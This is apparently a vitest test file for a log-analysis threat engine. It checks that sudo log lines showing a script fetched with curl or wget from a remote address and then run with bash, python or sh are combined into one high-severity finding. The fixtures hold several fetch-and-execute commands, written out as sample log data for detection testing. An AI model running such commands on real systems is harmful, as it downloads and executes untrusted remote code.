/** What commands of one account mean together. */
import { expect, test } from 'vitest';
import { never, openThreatEngine } from '../../support/threat-engine.ts';

const engine = await openThreatEngine();
const sudo = (second: number, command: string, user = 'deploy') =>
  `Nov 27 10:00:0${second} web1 sudo:   ${user} : TTY=pts/0 ; PWD=/home/${user} ; USER=root ; COMMAND=${command}`;
const fetched = sudo(1, '/usr/bin/curl http://198.51.100.9/x.sh -o /tmp/x.sh');
const run = sudo(9, '/bin/bash /tmp/x.sh');
const analyze = (...lines: string[]) => engine.methods.analyze({ text: lines.join('\n') }, never);
const found = async (...lines: string[]) =>
  (await analyze(...lines)).findings
    .map(({ title }) => title)
    .filter((title) => /^Script fetched/.test(title));

test('a script fetched and run by two lines of sudo is one finding, with both', async () => {
  const { severity, findings, recommendedActions } = await analyze(fetched, run);
  expect(severity).toBe('high');
  expect(findings[0]).toMatchObject({
    title: expect.stringMatching(/^Script fetched and then run/),
    ttps: ['T1105', 'T1059.004'],
  });
  expect(findings[0]?.lines.map(({ line }) => line)).toEqual([1, 2]);
  expect(findings[0]?.subjects.processes).toContain('/bin/bash');
  expect(findings[0]?.subjects.processes?.join()).not.toContain('bash.exe');
  expect(recommendedActions.join('\n')).toContain('Isolate web1');
});

test.each([
  ['wget -q -P /var/tmp ftp://203.0.113.4/a.py', '/usr/bin/python3 -u /var/tmp/a.py'],
  ['/usr/bin/wget https://203.0.113.4/a --output-document=/dev/shm/a', '/dev/shm/a'],
  ['/bin/sh -c curl https://pastebin.com/raw/abc > /tmp/.a', '/bin/sh /tmp/.a'],
])('%s, then %s', async (first, second) => {
  expect(await found(sudo(1, first), sudo(5, second))).toHaveLength(1);
});

test('one of the two alone, another account, or an installer of a known name are none', async () => {
  expect(await found(fetched)).toEqual([]);
  expect(await found(run)).toEqual([]);
  expect(await found(sudo(0, '/bin/bash /tmp/x.sh'), fetched)).toEqual([]);
  expect(await found(fetched, sudo(9, '/bin/bash /tmp/x.sh', 'siti'))).toEqual([]);
  for (const address of ['https://get.docker.com', 'http://10.0.0.5/setup.sh', 'http://repo.corp/setup.sh'])
    expect(await found(sudo(1, `/usr/bin/curl -fsSL ${address} -o /tmp/x.sh`), run)).toEqual([]);
});
